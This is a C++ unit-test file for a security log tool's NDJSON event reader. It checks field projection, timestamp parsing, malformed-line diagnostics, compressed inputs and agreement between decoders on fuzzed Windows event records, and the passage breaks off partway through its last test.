// EventReader: projection, nested vs dotted keys, multi-valued fields,
// malformed documents skipped and reported with line numbers, compressed
// inputs and JSON array files.
#include "core/timestamp.h"
#include "ingest/event_reader.h"
#include "ingest/ndjson_reader.h"

#include <algorithm>
#include <gtest/gtest.h>
#include <unistd.h>
#include <zlib.h>
#include <zstd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <random>
#include <string>
#include <vector>

using namespace vigil;

namespace {

struct TempFile {
  std::string path;
  explicit TempFile(const std::string& content, const std::string& suffix = ".ndjson") {
    char tmpl[] = "/tmp/vigil_reader_XXXXXX";
    int fd = mkstemp(tmpl);
    close(fd);
    path = std::string(tmpl) + suffix;
    std::rename(tmpl, path.c_str());
    std::ofstream(path, std::ios::binary) << content;
  }
  ~TempFile() { std::remove(path.c_str()); }
};

struct Collected {
  std::vector<std::string> names;  // value of the first projected field, rendered
  std::vector<std::uint64_t> lines;
  ReadStats stats;
};

Collected read_all(const std::string& path, FieldRegistry& fields, FieldId field) {
  Collected c;
  EventReader reader(fields);
  reader.read(path, 0, [&](EventBatch& batch) {
    for (const Event& e : batch.events) {
      std::string s;
      append_json(s, e.get(field));
      c.names.push_back(s);
      c.lines.push_back(e.line);
    }
    return true;
  }, c.stats);
  return c;
}

std::string as_lines(const std::vector<std::string>& lines) {
  std::string content;
  for (const auto& l : lines) content += l + "\n";
  return content;
}

// Per event, the fields `ids` rendered, each followed by a space.
std::vector<std::string> read_rows(const std::string& path, const FieldRegistry& fields,
                                   const std::vector<FieldId>& ids, ReadStats& stats, ReaderOptions options = {}) {
  std::vector<std::string> rows;
  EventReader reader(fields, options);
  reader.read(path, 0, [&](EventBatch& batch) {
    for (const Event& e : batch.events) {
      std::string row;
      for (FieldId f : ids) {
        append_json(row, e.get(f));
        row += ' ';
      }
      rows.push_back(row);
    }
    return true;
  }, stats);
  return rows;
}

std::string gzip(const std::string& data) {
  z_stream z{};
  deflateInit2(&z, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
  std::string out(compressBound(static_cast<uLong>(data.size())) + 64, '\0');
  z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  z.avail_in = static_cast<uInt>(data.size());
  z.next_out = reinterpret_cast<Bytef*>(out.data());
  z.avail_out = static_cast<uInt>(out.size());
  deflate(&z, Z_FINISH);
  out.resize(z.total_out);
  deflateEnd(&z);
  return out;
}

std::string zstd(const std::string& data) {
  std::string out(ZSTD_compressBound(data.size()), '\0');
  out.resize(ZSTD_compress(out.data(), out.size(), data.data(), data.size(), 3));
  return out;
}

}  // namespace

TEST(NdjsonReader, NestedAndDottedKeysAreTheSameField) {
  TempFile f("{\"process\":{\"name\":\"a.exe\"}}\n{\"process.name\":\"b.exe\"}\n{\"process\":{\"parent.name\":\"x\",\"name\":\"c.exe\"}}\n");
  FieldRegistry fields;
  FieldId id = fields.intern("process.name");
  auto c = read_all(f.path, fields, id);
  EXPECT_EQ(c.names, (std::vector<std::string>{"\"a.exe\"", "\"b.exe\"", "\"c.exe\""}));
}

TEST(NdjsonReader, OnlyProjectedFieldsAreMaterialized) {
  TempFile f("{\"a\":1,\"b\":{\"c\":[1,2,{\"d\":3}]},\"e\":\"x\"}\n");
  FieldRegistry fields;
  FieldId e = fields.intern("e");
  EventReader reader(fields);
  ReadStats stats;
  reader.read(f.path, 0, [&](EventBatch& batch) {
    EXPECT_EQ(batch.events.size(), 1u);
    const Event& event = batch.events[0];
    EXPECT_EQ(event.field_count, fields.size());
    EXPECT_EQ(std::count_if(event.field_slots, event.field_slots + event.field_count, [](auto s) { return s != 0; }), 1);
    EXPECT_EQ(batch.events[0].get(e).as_string(), "x");
    EXPECT_EQ(batch.events[0].source, "{\"a\":1,\"b\":{\"c\":[1,2,{\"d\":3}]},\"e\":\"x\"}");
    return true;
  }, stats);
  EXPECT_EQ(stats.events, 1u);
}

TEST(NdjsonReader, ArraysAndArraysOfObjectsAreMultiValued) {
  TempFile f("{\"process\":{\"args\":[\"cmd.exe\",\"/c\",\"whoami\"]},\"dll\":[{\"name\":\"a.dll\"},{\"name\":\"b.dll\"}],\"one\":[\"x\"]}\n");
  FieldRegistry fields;
  FieldId args = fields.intern("process.args");
  FieldId dll = fields.intern("dll.name");
  FieldId one = fields.intern("one");
  EventReader reader(fields);
  ReadStats stats;
  reader.read(f.path, 0, [&](EventBatch& batch) {
    const Event& e = batch.events.at(0);
    std::string s;
    append_json(s, e.get(args));
    EXPECT_EQ(s, "[\"cmd.exe\",\"/c\",\"whoami\"]");
    s.clear();
    append_json(s, e.get(dll));
    EXPECT_EQ(s, "[\"a.dll\",\"b.dll\"]");
    EXPECT_EQ(e.get(one).kind(), ValueKind::Array);  // a one-element array stays an array
    return true;
  }, stats);
}

TEST(NdjsonReader, TypedValuesAndTimestamp) {
  TempFile f("{\"@timestamp\":\"2022-01-01T00:00:00.5Z\",\"i\":-3,\"f\":1.5,\"b\":true,\"n\":null,\"u\":18446744073709551615,\"source\":{\"ip\":\"10.0.0.1\"}}\n");
  FieldRegistry fields;
  FieldId i = fields.intern("i"), fl = fields.intern("f"), b = fields.intern("b"), n = fields.intern("n"),
          u = fields.intern("u"), ip = fields.intern("source.ip");
  EventReader reader(fields);
  ReadStats stats;
  reader.read(f.path, 0, [&](EventBatch& batch) {
    const Event& e = batch.events.at(0);
    EXPECT_EQ(e.get(i).as_int(), -3);
    EXPECT_DOUBLE_EQ(e.get(fl).as_float(), 1.5);
    EXPECT_TRUE(e.get(b).as_bool());
    EXPECT_TRUE(e.get(n).is_null());
    EXPECT_EQ(e.get(u).kind(), ValueKind::Float);
    EXPECT_EQ(e.get(ip).kind(), ValueKind::Ip);
    EXPECT_TRUE(e.has_timestamp);
    EXPECT_EQ(e.timestamp_ns, 1640995200500000000LL);
    return true;
  }, stats);
}

TEST(NdjsonReader, NumericTimestampsAreEpochMillisWithinNanosecondRange) {
  // Beyond year 2262 nanoseconds overflow: such an event has no time (the
  // fuzzer's 6666666666666666 overflowed before), never a wrapped one.
  TempFile f("{\"@timestamp\":1602510312123}\n{\"@timestamp\":1602510312123.5}\n"
             "{\"@timestamp\":6666666666666666}\n{\"@timestamp\":-6666666666666666}\n"
             "{\"@timestamp\":1e300}\n{\"@timestamp\":\"6666666666666666\"}\n{\"@timestamp\":9223372036854}\n");
  FieldRegistry fields;
  EventReader reader(fields);
  ReadStats stats;
  std::vector<std::pair<bool, std::int64_t>> got;
  reader.read(f.path, 0, [&](EventBatch& batch) {
    for (const Event& e : batch.events) got.emplace_back(e.has_timestamp, e.has_timestamp ? e.timestamp_ns : 0);
    return true;
  }, stats);
  const std::vector<std::pair<bool, std::int64_t>> want = {
      {true, 1602510312123000000LL}, {true, 1602510312123500000LL}, {false, 0}, {false, 0}, {false, 0}, {false, 0},
      {true, 9223372036854000000LL}};
  EXPECT_EQ(got, want);
}

TEST(NdjsonReader, MalformedLinesAreSkippedCountedAndReported) {
  TempFile f("{\"x\":\"ok1\"}\n{\"x\": \n\n[1,2]\n{\"x\":\"ok2\"}\n{\"x\":\"bad\\q\"}\n\"just a string\"\n{\"x\":\"ok3\"}");
  FieldRegistry fields;
  FieldId x = fields.intern("x");
  auto c = read_all(f.path, fields, x);
  EXPECT_EQ(c.names, (std::vector<std::string>{"\"ok1\"", "\"ok2\"", "\"ok3\""}));
  EXPECT_EQ(c.lines, (std::vector<std::uint64_t>{1, 5, 8}));
  EXPECT_EQ(c.stats.skipped, 4u);
  ASSERT_EQ(c.stats.diagnostics.size(), 4u);
  EXPECT_EQ(c.stats.diagnostics[0].line, 2u);
  EXPECT_EQ(c.stats.diagnostics[1].line, 4u);
  EXPECT_EQ(c.stats.diagnostics[2].line, 6u);
  EXPECT_EQ(c.stats.diagnostics[3].line, 7u);
  EXPECT_EQ(c.stats.diagnostics[0].file, f.path);
}

TEST(NdjsonReader, JsonArrayFile) {
  TempFile f("  [ {\"x\": 1}, {\"x\": 2}, 7, {\"x\": 3} ]\n", ".json");
  FieldRegistry fields;
  FieldId x = fields.intern("x");
  auto c = read_all(f.path, fields, x);
  EXPECT_EQ(c.names, (std::vector<std::string>{"1", "2", "3"}));
  EXPECT_EQ(c.stats.skipped, 1u);
}

TEST(NdjsonReader, ArrayFileSimdjsonRejectsUpFrontIsReportedNotFatal) {
  // simdjson refuses the whole array before any element (invalid UTF-8):
  // the diagnostic has no location to ask for (asking crashed, found by fuzzing).
  TempFile file("[}\n{\"@timestamp\":66}\n\xff\xff", ".json");
  FieldRegistry fields;
  Collected c = read_all(file.path, fields, fields.intern("process.name"));
  EXPECT_TRUE(c.names.empty());
  ASSERT_EQ(c.stats.diagnostics.size(), 1u);
  EXPECT_EQ(c.stats.diagnostics[0].offset, 0u);
  EXPECT_NE(c.stats.diagnostics[0].reason.find("UTF-8"), std::string::npos);
}

TEST(NdjsonReader, GzipAndZstdAreDetectedFromContent) {
  std::string text;
  for (int i = 0; i < 5000; ++i) text += "{\"n\":" + std::to_string(i) + ",\"pad\":\"" + std::string(200, 'p') + "\"}\n";
  FieldRegistry fields;
  FieldId n = fields.intern("n");
  TempFile gz(gzip(text), ".log");  // the name does not say it is compressed
  TempFile zs(zstd(text), ".data");
  auto a = read_all(gz.path, fields, n);
  auto b = read_all(zs.path, fields, n);
  ASSERT_EQ(a.names.size(), 5000u);
  ASSERT_EQ(b.names.size(), 5000u);
  EXPECT_EQ(a.names.back(), "4999");
  EXPECT_EQ(b.names[1234], "1234");
  EXPECT_EQ(a.stats.skipped + b.stats.skipped, 0u);
}

TEST(NdjsonReader, TruncatedGzipReportsAnErrorAndKeepsWhatWasRead) {
  std::string text;
  for (int i = 0; i < 20000; ++i) text += "{\"n\":" + std::to_string(i) + "}\n";
  std::string packed = gzip(text);
  TempFile gz(packed.substr(0, packed.size() / 2));
  FieldRegistry fields;
  FieldId n = fields.intern("n");
  auto c = read_all(gz.path, fields, n);
  EXPECT_GT(c.names.size(), 0u);
  EXPECT_LT(c.names.size(), 20000u);
  EXPECT_EQ(c.stats.failed_inputs, 1u);
}

TEST(NdjsonReader, LinesSpanningStreamBlocksAreReassembled) {
  // Many 512 KiB stream blocks, through the streaming (zstd) path, with
  // lines longer than a block (the buffer grows to hold them) among them.
  std::string text;
  int count = 0;
  while (text.size() < (9u << 20)) {
    const std::size_t pad = count % 1500 == 700 ? (std::size_t{5} << 19) + count : 1000 + count % 777;
    text += "{\"n\":" + std::to_string(count) + ",\"pad\":\"" + std::string(pad, 'q') + "\"}\n";
    ++count;
  }
  TempFile zs(zstd(text));
  FieldRegistry fields;
  FieldId n = fields.intern("n");
  auto c = read_all(zs.path, fields, n);
  ASSERT_EQ(static_cast<int>(c.names.size()), count);
  EXPECT_EQ(c.names.back(), std::to_string(count - 1));
  EXPECT_EQ(c.lines.back(), static_cast<std::uint64_t>(count));
  EXPECT_EQ(c.stats.skipped, 0u);
}

TEST(NdjsonReader, MissingFileIsReportedNotFatal) {
  FieldRegistry fields;
  EventReader reader(fields);
  ReadStats stats;
  reader.read("/nonexistent/file.ndjson", 0, [](EventBatch&) { return true; }, stats);
  EXPECT_EQ(stats.failed_inputs, 1u);
  EXPECT_EQ(stats.events, 0u);
}

TEST(NdjsonReader, StringValuesSurviveTheirBatchWhereverTheLineWasParsed) {
  // Values without escapes point into the input; the last lines of a file
  // (closer to its end than simdjson's padding) are parsed from a reused
  // copy, so theirs must be copied. Escaped values and keys are unescaped.
  std::string content;
  for (int i = 0; i < 50; ++i) content += R"({"process":{"name":"long-line-)" + std::to_string(i) + R"(.exe"},"pad":"0123456789012345678901234567890123456789"})" "\n";
  content += R"({"process":{"name":"tab\there"}})" "\n";
  content += R"({"proc\u0065ss":{"name":"escaped-key"}})" "\n";
  for (int i = 0; i < 6; ++i) content += R"({"process":{"name":"s)" + std::to_string(i) + R"("}})" "\n";
  TempFile file(content);
  FieldRegistry fields;
  FieldId name = fields.intern("process.name");
  Collected c = read_all(file.path, fields, name);
  ASSERT_EQ(c.names.size(), 58u);
  EXPECT_EQ(c.names[0], "\"long-line-0.exe\"");
  EXPECT_EQ(c.names[49], "\"long-line-49.exe\"");
  EXPECT_EQ(c.names[50], "\"tab\\there\"");
  EXPECT_EQ(c.names[51], "\"escaped-key\"");
  for (int i = 0; i < 6; ++i) EXPECT_EQ(c.names[52 + i], "\"s" + std::to_string(i) + "\"");
}

TEST(NdjsonReader, KeysAreRecognisedWhateverTheirOrderLengthAndNumber) {
  // Keys are predicted from the documents before (per object, the key that
  // followed each key last time), so documents of several shapes are
  // interleaved here, with keys that agree with a registered one up to
  // their last byte, are a prefix of one, extend one past the 31 bytes a
  // prediction holds, are escaped, or come after more distinct keys than an
  // object's table keeps.
  const std::string k31 = "k234567890123456789012345678901";  // 31 bytes: the longest predicted key
  ASSERT_EQ(k31.size(), 31u);
  std::string many;
  for (int i = 0; i < 300; ++i) many += "\"u" + std::to_string(i) + "\":" + std::to_string(i) + ",";
  const std::vector<std::string> lines = {
      R"({"a":1,"process":{"name":"A1","pid":1},"zz":"x"})",
      R"({"process":{"pid":2,"name":"B2"},"a":2})",
      R"({"a":3,"process":{"name":"A3","pid":3},"zz":"x"})",
      // Each predicted to be the key before it at its place:
      "{\"" + k31 + "\":\"exact\",\"process\":{\"name\":\"C4\"}}",
      "{\"" + k31 + "Y\":\"one byte longer\",\"process\":{\"name\":\"C5\"}}",
      "{\"" + k31 + "\":\"exact again\",\"proc\":{\"name\":\"prefix\"},\"process\":{\"n\\u0061me\":\"C6\"}}",
      "{\"" + k31.substr(0, 30) + "X\":\"last byte differs\",\"process\":{\"name\":\"C7\"}}",
      "{" + many + "\"process\":{\"name\":\"D8\"},\"a\":8}",
      R"({"process":{"pid":9,"name":"B9"},"a":9})",
      "{" + many + "\"a\":10,\"process\":{\"name\":\"D10\"}}",
      R"({"a":11,"process":{"name":"A11","pid":11},"zz":"x"})",
  };
  TempFile file(as_lines(lines));
  FieldRegistry fields;
  const FieldId name = fields.intern("process.name");
  const FieldId pid = fields.intern("process.pid");
  const FieldId a = fields.intern("a");
  const FieldId k = fields.intern(k31);
  ReadStats stats;
  const std::vector<std::string> seen = read_rows(file.path, fields, {name, pid, a, k}, stats);
  const std::vector<std::string> expected = {
      R"("A1" 1 1 null )",
      R"("B2" 2 2 null )",
      R"("A3" 3 3 null )",
      R"("C4" null null "exact" )",
      R"("C5" null null null )",
      R"("C6" null null "exact again" )",
      R"("C7" null null null )",
      R"("D8" null 8 null )",
      R"("B9" 9 9 null )",
      R"("D10" null 10 null )",
      R"("A11" 11 11 null )",
  };
  EXPECT_EQ(seen, expected);
}

namespace {

// Every event of an NDJSON file as text: line, source, time and each field
// of `fields`; then every diagnostic. Two reads agree when the texts do.
std::vector<std::string> read_rendered(const std::string& path, const FieldRegistry& fields, bool single_pass,
                                       ReadStats& stats, unsigned threads = 1) {
  ReaderOptions options;
  options.single_pass = single_pass;
  options.threads = threads;
  EventReader reader(fields, options);
  std::vector<std::string> out;
  reader.read(path, 0, [&](EventBatch& batch) {
    for (const Event& e : batch.events) {
      std::string row = std::to_string(e.line) + " " + std::to_string(e.timestamp_ns) + " " + std::string(e.source);
      for (FieldId f = 0; f < fields.size(); ++f) {
        row += " ";
        append_json(row, e.get(f));
      }
      out.push_back(std::move(row));
    }
    return true;
  }, stats);
  for (const auto& d : stats.diagnostics) {
    out.push_back("diagnostic " + std::to_string(d.line) + " " + std::to_string(d.offset) + " " + d.reason);
  }
  return out;
}

// The fields of Elastic's Windows rules that OTRF documents hold, nested,
// flat, arrays, numbers and long texts.
FieldRegistry comparison_fields() {
  FieldRegistry fields;
  for (const char* name :
       {"@timestamp", "event.category", "event.type", "event.code", "event.action", "event.provider", "host.name",
        "host.os.type", "process.name", "process.pid", "process.executable", "process.command_line",
        "process.args", "process.parent.name", "process.parent.executable", "user.name", "user.domain",
        "registry.path", "registry.data.strings", "file.path", "file.name", "dll.path", "source.ip",
        "destination.ip", "destination.port", "winlog.event_id", "winlog.channel", "winlog.computer_name",
        "winlog.event_data.CommandLine", "winlog.event_data.Image", "winlog.event_data.TargetObject",
        "winlog.event_data.ScriptBlockText", "winlog.event_data.ProcessId", "powershell.file.script_block_text",
        "message", "Message", "EventID", "CommandLine", "Image", "ParentImage", "TargetObject", "Details",
        "ScriptBlockText", "ProcessId", "SubjectUserName", "Hostname", "network.direction", "related.user"}) {
    fields.intern(name);
  }
  return fields;
}

}  // namespace

TEST(NdjsonReader, SinglePassDecodesRealAndDamagedDocumentsAsSimdjsonDoes) {
  // ECS NDJSON from the OTRF recordings (flat Windows exports get their ECS
  // members when read, and the event's source is the extended document),
  // then the same lines damaged the ways hostile input is: cut short, a byte
  // turned into a quote, backslash, control, space, tab, UTF-8 lead or
  // digit, a float or a big integer or an escaped key put in. Read both ways
  // (and by the single pass on two threads, and from gzip), every line must
  // give the same event or the same diagnostic.
  const std::string recordings = std::string(VIGIL_SHARED_DIR) + "/data/otrf-security-datasets/windows";
  std::vector<std::string> lines;
  {
    FieldRegistry any;
    EventReader reader(any);
    ReadStats stats;
    std::vector<std::string> files;
    for (const auto& entry : std::filesystem::recursive_directory_iterator(recordings)) {
      if (entry.is_regular_file() && entry.path().extension() == ".zip") files.push_back(entry.path().string());
    }
    std::sort(files.begin(), files.end());
    ASSERT_GE(files.size(), 10u) << recordings;
    for (std::size_t i = 0; i < files.size() && lines.size() < 20000; i += files.size() / 10) {
      reader.read(files[i], 0, [&](EventBatch& batch) {
        for (const Event& e : batch.events) lines.emplace_back(e.source);
        return true;
      }, stats);
    }
  }
  ASSERT_GE(lines.size(), 5000u);
  std::mt19937 rng(11);
  const std::string inserts[] = {"\"", "\\", "\t", " ", "\x01", "\xc3", "\xff", "7", "1.5e3", "12345678901234567890",
                                 "\"k\\u0065y\":1,", "{", "]", "\\u00e9", "\\ud83d"};
  std::string content;
  for (std::size_t i = 0; i < lines.size(); ++i) {
    const std::string& line = lines[i];
    content += line + "\n";
    if (i % 4 != 0 || line.size() < 8) continue;
    std::string damaged = line;
    const std::size_t at = 1 + rng() % (line.size() - 2);
    switch (rng() % 3) {
      case 0: damaged.resize(at); break;
      case 1: damaged[at] = inserts[rng() % 8][0]; break;
      default: damaged.insert(at, inserts[rng() % std::size(inserts)]); break;
    }
    content += damaged + (i % 8 == 0 ? "\r\n" : "\n");
  }
  TempFile file(content);
  const FieldRegistry fields = comparison_fields();
  ReadStats scanned, parsed;
  const std::vector<std::string> by_scan = read_rendered(file.path, fields, true, scanned);
  const std::vector<std::string> by_simdjson = read_rendered(file.path, fields, false, parsed);
  EXPECT_EQ(parsed.single_pass, 0u);
  // Most documents take the single pass, or the comparison compares simdjson with itself.
  EXPECT_GT(scanned.single_pass, scanned.events * 9 / 10);
  EXPECT_GT(scanned.skipped, 1000u);  // the damage is seen
  EXPECT_EQ(scanned.events, parsed.events);
  EXPECT_EQ(scanned.skipped, parsed.skipped);
  ASSERT_EQ(by_scan.size(), by_simdjson.size());
  for (std::size_t i = 0; i < by_scan.size(); ++i) ASSERT_EQ(by_scan[i], by_simdjson[i]) << "row " << i;
  // Lines decoded on two threads (blocks split in parts) come out the same.
  ReadStats parallel;
  const std::vector<std::string> by_threads = read_rendered(file.path, fields, true, parallel, 2);
  EXPECT_GT(parallel.single_pass, parallel.events * 9 / 10);
  ASSERT_EQ(by_threads.size(), by_simdjson.size());
  for (std::size_t i = 0; i < by_threads.size(); ++i) ASSERT_EQ(by_threads[i], by_simdjson[i]) << "row " << i;
  // Streams (here gzip) take the single pass from their block buffer.
  TempFile compressed(gzip(content), ".ndjson.gz");
  ReadStats streamed;
  const std::vector<std::string> by_stream = read_rendered(compressed.path, fields, true, streamed);
  EXPECT_GT(streamed.single_pass, streamed.events * 9 / 10);
  ASSERT_EQ(by_stream.size(), by_simdjson.size());
  for (std::size_t i = 0; i < by_stream.size(); ++i) ASSERT_EQ(by_stream[i], by_simdjson[i]) << "row " << i;
}

TEST(NdjsonReader, StreamsSkipLinesOverTheLimitAndKeepTheRest) {
  // A gzip stream: whole lines around a line longer than max_document_bytes
  // (dropped with a diagnostic, reading resumes at the next line), and a last
  // line without '\n'. The single pass and simdjson alone give the same.
  std::string content;
  for (int i = 1; i <= 8; ++i) {
    if (i == 4) {
      content += R"({"process":{"name":")" + std::string(6u << 20, 'x') + "\"}}\n";
    } else {
      content += R"({"@timestamp":"2024-05-01T10:00:0)" + std::to_string(i) + R"(Z","process":{"name":"p)" +
                 std::to_string(i) + "\"}}" + (i < 8 ? "\n" : "");
    }
  }
  TempFile compressed(gzip(content), ".ndjson.gz");
  FieldRegistry fields;
  const FieldId name = fields.intern("process.name");
  for (bool single_pass : {true, false}) {
    ReaderOptions options;
    options.threads = 1;
    options.single_pass = single_pass;
    options.max_document_bytes = 1u << 20;
    ReadStats stats;
    const std::vector<std::string> rows = read_rows(compressed.path, fields, {name}, stats, options);
    const std::vector<std::string> expected = {R"("p1" )", R"("p2" )", R"("p3" )", R"("p5" )",
                                               R"("p6" )", R"("p7" )", R"("p8" )"};
    EXPECT_EQ(rows, expected) << "single pass " << single_pass;
    ASSERT_EQ(stats.diagnostics.size(), 1u);
    EXPECT_EQ(stats.diagnostics[0].line, 4u);
    EXPECT_EQ(stats.diagnostics[0].reason, "line longer than 1048576 bytes");
    EXPECT_EQ(stats.skipped, 1u);
    // Lines 2-3 and 5-7 (the first line decides the input's shape; the last has no '\n').
    EXPECT_EQ(stats.single_pass, single_pass ? 5u : 0u);
  }
}

TEST(NdjsonReader, StreamsWordACutLastLineAsMappedFilesDo) {
  // simdjson's message for a cut document depends on the bytes after it: a
  // stream's last line must see the spaces a mapped file's last line gets,
  // not whatever its buffer held (found by fuzzing a stream against a file).
  const std::string content = "{\"\x06}\n{\x19}\n{[}";  // as the fuzzer found it
  TempFile file(content);
  TempFile compressed(gzip(content), ".ndjson.gz");
  const FieldRegistry fields = comparison_fields();
  ReadStats mapped, streamed;
  const std::vector<std::string> by_file = read_rendered(file.path, fields, true, mapped);
  const std::vector<std::string> by_stream = read_rendered(compressed.path, fields, true, streamed);
  ASSERT_EQ(mapped.diagnostics.size(), 3u);  // no line is an object
  EXPECT_EQ(mapped.diagnostics[2].line, 3u);
  EXPECT_EQ(by_stream, by_file);
}

TEST(NdjsonReader, RejectsTokensAfterTheRootObject) {
  // On-Demand stops at the end of the root object; a surplus '}' used to let
  // `{...}}}` through as an event (the single pass declined it, simdjson took it).
  const std::vector<std::string> lines = {
      R"({"process":{"name":"first"}})",  R"({"process":{"name":"surplus"}}})",
      R"({"process":{"name":"nested"},"x":{"y":[{"z":1}]}})", R"({"process":{"name":"two"}} {"a":1})",
      R"({"process":{"name":"last"}}  )"};
  TempFile file(as_lines(lines));
  FieldRegistry fields;
  const FieldId name = fields.intern("process.name");
  for (bool single_pass : {true, false}) {
    ReaderOptions options;
    options.threads = 1;
    options.single_pass = single_pass;
    ReadStats stats;
    const std::vector<std::string> rows = read_rows(file.path, fields, {name}, stats, options);
    EXPECT_EQ(rows, (std::vector<std::string>{R"("first" )", R"("nested" )", R"("last" )"})) << single_pass;
    ASSERT_EQ(stats.diagnostics.size(), 2u);
    EXPECT_EQ(stats.diagnostics[0].line, 2u);
    EXPECT_EQ(stats.diagnostics[0].reason, "trailing content after the JSON object");
    EXPECT_EQ(stats.diagnostics[1].line, 4u);
    EXPECT_EQ(stats.diagnostics[1].reason, "trailing content after the JSON object");
  }
}

TEST(NdjsonReader, SinglePassReadsTheValuesItTakesExactly) {
  // Lines the single pass decodes itself (escapes, unicode, nesting, arrays
  // of objects, empty arrays, nulls, negative and 18-digit integers, CRLF),
  // and lines it leaves to simdjson (a float, a 19-digit integer, an
  // escaped key, a surrogate pair, a tab), checked by value. The first
  // line of an input always goes to simdjson: it decides the input's shape.
  const std::vector<std::string> lines = {
      R"({"first":"line"})",
      R"({"process":{"name":"C:\\Windows\\cmd.exe","pid":-42,"args":["a\"b","caf\u00e9",null]},"x":{"y":[{"z":1}]}})",
      R"({"process.name":"dotted","process.pid":999999999999999999,"process.args":[],"user":{"name":null}})" "\r",
      R"({"process":{"name":"float","pid":1.5}})",
      R"({"process":{"name":"big","pid":1000000000000000000}})",
      R"({"proc\u0065ss":{"name":"escaped key"}})",
      R"({"process":{"name":"\ud83d\ude00"}})",
      "{\"process\":{\"name\":\"tab\"},\t\"user\":{\"name\":\"u\"}}",
  };
  TempFile file(as_lines(lines));
  FieldRegistry fields;
  const FieldId name = fields.intern("process.name");
  const FieldId pid = fields.intern("process.pid");
  const FieldId args = fields.intern("process.args");
  const FieldId user = fields.intern("user.name");
  ReadStats stats;
  ReaderOptions options;
  options.threads = 1;
  const std::vector<std::string> seen = read_rows(file.path, fields, {name, pid, args, user}, stats, options);
  const std::vector<std::string> expected = {
      R"(null null null null )",
      R"("C:\\Windows\\cmd.exe" -42 ["a\"b","café"] null )",
      R"("dotted" 999999999999999999 [] null )",
      R"("float" 1.5 null null )",
      R"("big" 1000000000000000000 null null )",
      R"("escaped key" null null null )",
      R"("😀" null null null )",
      R"("tab" null null "u" )",
  };
  EXPECT_EQ(seen, expected);
  EXPECT_EQ(stats.single_pass, 2u);
}

TEST(NdjsonReader, DeferredFieldsAreDecodedOnlyInEventsTheirReadersTake) {
  // Message is read only by a rule of Application events with ID 1033
  // (FieldDeferral, as RuleIndex::deferral() makes it). The walk leaves an
  // escaped Message as it is until the event's channel and code are known
  // (they come after it): decoded for that rule's events, left out of the
  // others, unread like any value no rule reads. Strings without escapes
  // cost nothing to keep; arrays are decoded as they come.
  const std::vector<std::string> lines = {
      R"({"first":"line"})",
      R"({"Message":"Atera\tAgent caf\u00e9","winlog":{"channel":"Application"},"event":{"code":"1033"}})",
      R"({"Message":"a\r\nb","winlog":{"channel":"Security"},"event":{"code":"4703"}})",
      R"({"Message":"plain","winlog":{"channel":"Security"},"event":{"code":"4703"}})",
      R"({"Message":"bad \q escape","winlog":{"channel":"Security"},"event":{"code":"4703"}})",
      R"({"Message":"\ud83d\ude00\t","winlog":{"channel":"application"},"event":{"code":1033}})",
      R"({"Message":["a\tb"],"winlog":{"channel":"Security"},"event":{"code":"4703"}})",
      R"({"Message":"x\ty","winlog":{"channel":"Application"},"event":{"code":"1034"}})",
      R"({"last":"line: simdjson decodes what ends less than 64 bytes before the end of the input"})",
  };
  TempFile file(as_lines(lines));
  FieldRegistry fields;
  const FieldId message = fields.intern("Message");
  const FieldId channel = fields.intern("winlog.channel");
  const FieldId code = fields.intern("event.code");
  constexpr std::size_t kCode = 3, kChannel = 4;  // RuleIndex::Kind
  auto deferral = std::make_shared<FieldDeferral>();
  deferral->kind_of.assign(fields.size(), 0);
  deferral->kind_of[code] = kCode + 1;
  deferral->kind_of[channel] = kChannel + 1;
  KindBits reader{};
  reader[kCode] = deferral->names[kCode].bits_of(std::vector<std::string>{"1033"});
  reader[kChannel] = deferral->names[kChannel].bits_of(std::vector<std::string>{"Application"});
  deferral->gates = {{reader}};
  deferral->gate_of.assign(fields.size(), 0);
  deferral->gate_of[message] = 1;

  ReaderOptions options;
  options.threads = 1;
  options.deferral = deferral;
  ReadStats stats;
  const std::vector<std::string> seen = read_rows(file.path, fields, {message, channel}, stats, options);
  const std::vector<std::string> expected = {
      R"(null null )",
      R"("Atera\tAgent café" "Application" )",
      R"(null "Security" )",
      R"("plain" "Security" )",
      R"(null "Security" )",
      R"("😀\t" "application" )",  // a surrogate pair: simdjson decodes the line, every field
      R"(["a\tb"] "Security" )",
      R"(null "Application" )",  // the channel alone is not the rule's kind
      R"(null null )",
  };
  EXPECT_EQ(seen, expected);
  EXPECT_EQ(stats.single_pass, 6u);
  EXPECT_EQ(stats.skipped, 0u);

  // Without the deferral every Message is decoded, and the bad escape is a malformed line.
  options.deferral = nullptr;
  ReadStats all_stats;
  const std::vector<std::string> all = read_rows(file.path, fields, {message}, all_stats, options);
  EXPECT_EQ(all.size(), lines.size() - 1);
  EXPECT_EQ(all[2], R"("a\r\nb" )");
  EXPECT_EQ(all_stats.skipped, 1u);
}

TEST(NdjsonReader, AFlatExportsLocalTimesArePutInUtcByTheOffsetItsSysmonRowsShow) {
  // OTRF's 2020 exports: Security rows carry only a local TimeCreated (UTC+8
  // here); a Sysmon row of the same host holds TimeCreated beside UtcTime.
  // Rows before that Sysmon row get their time too, the same on every read
  // path (mapped on one thread and on two, a gzip stream); a host without a
  // Sysmon row keeps no time; a TimeCreated with its zone is taken as it is.
  auto security = [](const std::string& host, const std::string& time, int pid) {
    return "{\"EventID\":4688,\"SourceName\":\"Microsoft-Windows-Security-Auditing\",\"Channel\":\"Security\","
           "\"Hostname\":\"" + host + "\",\"TimeCreated\":\"" + time + "\",\"NewProcessId\":\"" + std::to_string(pid) +
           "\",\"Pad\":\"" + std::string(300, 'p') + "\"}";
  };
  std::vector<std::string> lines = {security("WKS5", "2020-10-19 12:28:31.089", 1),
                                    security("OTHER", "2020-10-19 12:28:32.000", 2),
                                    security("WKS5", "2020-10-19T04:28:33.5+00:00", 3)};
  // Hostile times: a "Sysmon row" whose two times lie centuries apart (their
  // difference overflows 64 bits) teaches nothing; its host keeps no time.
  lines.push_back("{\"EventID\":1,\"SourceName\":\"Microsoft-Windows-Sysmon\",\"Hostname\":\"FAR\","
                  "\"TimeCreated\":\"2262-04-11 23:47:16\",\"UtcTime\":\"1677-09-21 00:12:44\"}");
  lines.push_back(security("FAR", "2262-04-11 23:47:16", 4));
  // The Sysmon row past a stream's first read (512 KB), the input past 1 MB
  // (a mapped read decodes on both threads).
  const std::size_t far = lines.size() - 1;
  for (int i = 0; i < 2000; ++i) lines.push_back(security("WKS5", "2020-10-19 12:30:00.000", 100 + i));
  const std::size_t sysmon = lines.size();
